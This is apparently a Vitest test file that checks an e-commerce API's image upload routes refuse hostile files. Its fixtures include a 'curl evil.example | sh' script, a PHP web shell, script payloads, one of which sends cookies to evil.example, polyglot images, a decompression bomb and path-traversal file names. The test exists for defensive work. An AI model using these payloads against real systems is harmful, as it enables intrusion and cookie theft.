import fs from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { createTestApp, type TestContext } from '../harness.js';
import { testImage } from '../fixtures.js';
import type { FilePart } from '../multipart.js';
import { buildWorld, changedTables, hex, jsonOf, tableDigest, toInject, type Req, type World } from './helpers.js';
import { Tally } from './report.js';

/**
 * Hostile uploads on every image route: a script renamed .png, polyglots, SVG, a decompression bomb,
 * a 50 MB file, 100 files, path-traversal names. Each must be refused with a clear 4xx, and nothing
 * may reach the disk or the database.
 */

let t: TestContext;
let world: World;
const tally = new Tally('uploads');
beforeAll(async () => {
  t = await createTestApp({ RATE_LIMIT_MAX: '1000000' });
  world = await buildWorld(t.app);
});
afterAll(async () => {
  tally.save();
  await t.close();
});

/** Every file under DATA_DIR, with its size: what an upload could have written. */
function filesOnDisk(): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else out.push(`${path.relative(t.dataDir, full)}:${fs.statSync(full).size}`);
    }
  };
  walk(t.dataDir);
  return out.sort();
}

// --- Hostile files -------------------------------------------------------------------------------

const crcTable = Array.from({ length: 256 }, (_v, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const b of bytes) c = (crcTable[(c ^ b) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A 30000 × 30000 PNG of a few hundred bytes: decoding it would take 2.7 GB. */
function decompressionBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // RGB
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(30_001 * 3 * 4))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real PNG that is also an HTML page with a script, in a text chunk (a browser sniffing it finds the page). */
async function pngWithScriptChunk(): Promise<Buffer> {
  const png = await testImage('png', 21);
  const iend = png.length - 12;
  const text = pngChunk(
    'tEXt',
    Buffer.from('Comment\0<html><body><script>alert(document.cookie)</script></body></html>', 'latin1'),
  );
  return Buffer.concat([png.subarray(0, iend), text, png.subarray(iend)]);
}

/** A real JPEG whose comment segment carries a script. */
async function jpegWithScriptComment(): Promise<Buffer> {
  const jpeg = await testImage('jpeg', 22);
  const comment = Buffer.from('<script>fetch("//evil.example/?c="+document.cookie)</script>', 'latin1');
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, jpeg.subarray(2)]);
}

interface HostileUpload {
  name: string;
  status: number;
  /** Only these routes (the category takes one image: two are refused for their number first). */
  only?: string[];
  files: () => Promise<FilePart[]>;
}

async function good(filename = 'photo.png', seed = 30): Promise<FilePart> {
  return { data: await testImage('png', seed), filename, contentType: 'image/png' };
}

const HOSTILE: HostileUpload[] = [
  {
    name: 'a shell script renamed .png',
    status: 400,
    files: async () => [
      { data: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), filename: 'run.png', contentType: 'image/png' },
    ],
  },
  {
    name: 'a PHP page renamed .jpg',
    status: 400,
    files: async () => [
      { data: Buffer.from('<?php system($_GET["c"]); ?>'), filename: 'shell.jpg', contentType: 'image/jpeg' },
    ],
  },
  {
    name: 'an HTML page renamed .png',
    status: 400,
    files: async () => [
      { data: Buffer.from('<!doctype html><script>alert(1)</script>'), filename: 'page.png', contentType: 'image/png' },
    ],
  },
  {
    name: 'a polyglot: PNG signature, then a script',
    status: 400,
    files: async () => [
      { data: Buffer.concat([PNG_SIGNATURE, Buffer.from('<script>alert(1)</script>')]), filename: 'poly.png' },
    ],
  },
  {
    name: 'a polyglot: a valid PNG with a script after its end',
    status: 400,
    files: async () => [
      {
        data: Buffer.concat([await testImage('png', 23), Buffer.from('<html><script>alert(1)</script></html>')]),
        filename: 'poly2.png',
      },
    ],
  },
  {
    name: 'a polyglot: a valid PNG with an HTML text chunk',
    status: 400,
    files: async () => [{ data: await pngWithScriptChunk(), filename: 'poly3.png' }],
  },
  {
    name: 'a polyglot: a valid JPEG with a script comment',
    status: 400,
    files: async () => [{ data: await jpegWithScriptComment(), filename: 'poly4.jpg' }],
  },
  {
    name: 'an SVG with a script',
    status: 400,
    files: async () => [
      {
        data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        filename: 'logo.svg',
        contentType: 'image/svg+xml',
      },
    ],
  },
  {
    name: 'an SVG named .png',
    status: 400,
    files: async () => [
      {
        data: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        filename: 'logo.png',
        contentType: 'image/png',
      },
    ],
  },
  {
    name: 'a GIF',
    status: 400,
    files: async () => [
      {
        data: await sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } })
          .gif()
          .toBuffer(),
        filename: 'a.gif',
      },
    ],
  },
  { name: 'an empty file', status: 400, files: async () => [{ data: Buffer.alloc(0), filename: 'empty.png' }] },
  {
    name: 'a decompression bomb (30000 × 30000 PNG)',
    status: 400,
    files: async () => [{ data: decompressionBomb(), filename: 'bomb.png' }],
  },
  {
    name: 'a 50 MB file',
    status: 413,
    files: async () => [
      { data: Buffer.concat([await testImage('png', 24), Buffer.alloc(50 * 1024 * 1024, 1)]), filename: 'huge.png' },
    ],
  },
  {
    name: '100 files',
    status: 413,
    files: async () => Promise.all(Array.from({ length: 100 }, (_v, i) => good(`p${i}.png`, 100 + i))),
  },
  ...[
    '../../../../tmp/evil.png',
    '..\\..\\..\\evil.png',
    '/etc/cron.d/evil.png',
    'uploads/../../evil.png',
    'C:\\Windows\\evil.png',
    '..',
    'evil\u0000.png',
    '%2e%2e%2fevil.png',
  ].map((filename): HostileUpload => ({
    name: `a valid image named ${JSON.stringify(filename)}`,
    status: 400,
    files: async () => [await good(filename, 40)],
  })),
  {
    name: 'a valid image followed by a script renamed .png',
    status: 400,
    only: ['POST /api/product', 'PUT /api/product'],
    files: async () => [await good('a.png', 41), { data: Buffer.from('<script>alert(1)</script>'), filename: 'b.png' }],
  },
];

const routes: { key: string; method: string; url: string; request: (files: FilePart[]) => Req }[] = [
  {
    key: 'POST /api/category/img/:id',
    method: 'POST',
    url: '/api/category/img/:id',
    request: (files) => ({ params: { id: world.category.id }, form: { fields: {}, files } }),
  },
  {
    key: 'POST /api/product',
    method: 'POST',
    url: '/api/product',
    request: (files) => ({ form: { fields: productFields(), files } }),
  },
  {
    key: 'PUT /api/product',
    method: 'PUT',
    url: '/api/product',
    request: (files) => ({ form: { fields: { ...productFields(), id: world.spare.id }, files } }),
  },
];
function productFields(): Record<string, string> {
  return {
    name: `Blender ${hex()}`,
    brand: 'Kenwood',
    category: world.category.id,
    department: world.department.id,
    description: 'Crushes ice',
    price: '1250',
    stock: '3',
    weight: '2',
    cod: 'true',
  };
}

describe('hostile uploads', () => {
  it.each(HOSTILE.map((h) => [h.name, h] as const))(
    '%s: refused with a clear 4xx on every image route, nothing written',
    async (_name, hostile) => {
      for (const route of routes.filter((r) => !hostile.only || hostile.only.includes(r.key))) {
        const files = await hostile.files();
        const [disk, rows] = [filesOnDisk(), await tableDigest(t.app)];
        const res = await t.app.inject(toInject(route, route.request(files), world.admin.headers));
        const message = (jsonOf(res.body) as { message?: unknown } | undefined)?.message;
        const changed = changedTables(rows, await tableDigest(t.app));
        const ok =
          res.statusCode === hostile.status &&
          typeof message === 'string' &&
          message.length > 0 &&
          changed.length === 0;
        tally.check(route.key, ok && filesOnDisk().join() === disk.join());
        expect({ route: route.key, status: res.statusCode, message: typeof message }).toEqual({
          route: route.key,
          status: hostile.status,
          message: 'string',
        });
        expect(filesOnDisk(), `${route.key} wrote to disk`).toEqual(disk);
        expect(changed, `${route.key} changed rows`).toEqual([]);
      }
    },
  );

  it('says what is wrong in words a person can act on', async () => {
    const cases: [string, FilePart[], RegExp][] = [
      ['script', [{ data: Buffer.from('#!/bin/sh'), filename: 'x.png' }], /png or jpeg/i],
      [
        'polyglot',
        [{ data: await pngWithScriptChunk(), filename: 'x.png' }],
        /png or jpeg|could not be read|not allowed/i,
      ],
      ['traversal', [await good('../../x.png', 50)], /file name/i],
      [
        'too big',
        [{ data: Buffer.concat([await testImage('png', 51), Buffer.alloc(6 * 1024 * 1024)]), filename: 'big.png' }],
        /5 MB/,
      ],
    ];
    const route = routes[0];
    if (!route) throw new Error('no route');
    for (const [label, files, pattern] of cases) {
      const res = await t.app.inject(toInject(route, route.request(files), world.admin.headers));
      tally.check(route.key, pattern.test(res.json().message));
      expect(res.json().message, label).toMatch(pattern);
    }
  });

  it('still accepts a genuine png and jpeg, stored re-encoded as webp under a content-hashed name', async () => {
    for (const [format, seed] of [
      ['png', 60],
      ['jpeg', 61],
    ] as const) {
      const data = await testImage(format, seed);
      const route = routes[0];
      if (!route) throw new Error('no route');
      const res = await t.app.inject(
        toInject(route, route.request([{ data, filename: `ok.${format}` }]), world.admin.headers),
      );
      tally.check(route.key, res.statusCode === 200);
      expect(res.statusCode).toBe(200);
      const imagePath = res.json().image_path as string;
      expect(imagePath).toMatch(/^\/uploads\/[a-f0-9]{32}\.webp$/);
      const served = await t.app.inject({ method: 'GET', url: imagePath });
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.rawPayload.equals(data)).toBe(false);
      expect(served.rawPayload.subarray(8, 12).toString('latin1')).toBe('WEBP');
    }
  });
});
